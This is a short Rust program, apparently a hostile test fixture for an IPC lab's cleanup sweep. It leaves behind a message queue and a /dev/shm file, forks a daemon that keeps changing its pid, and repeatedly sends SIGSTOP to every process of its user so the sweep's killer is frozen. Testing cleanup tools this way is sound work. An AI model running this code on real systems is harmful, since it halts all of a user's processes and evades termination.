//! Attack: a daemon that is always another pid stops (SIGSTOP) the sweep's killer, which runs under its uid.
use nix::libc;
use std::time::Instant;

fn main() {
    unsafe {
        let _ = libc::msgget(0x4c61_0042, libc::IPC_CREAT | 0o600);
    }
    let _ = std::fs::write("/dev/shm/ipc-lab-hostile-atk2-stopkiller", "left here");
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            for fd in 0..3 {
                libc::close(fd);
            }
            let start = Instant::now();
            let mut last = 0u64;
            while start.elapsed().as_secs() < 40 {
                let ms = start.elapsed().as_millis() as u64;
                if ms > 150 {
                    libc::kill(-1, libc::SIGSTOP);
                }
                // After two seconds one step each 20 ms will do.
                if ms < 3000 || ms - last > 20 {
                    last = ms;
                    if libc::fork() > 0 {
                        libc::_exit(0);
                    }
                }
            }
            libc::_exit(0);
        }
    }
}
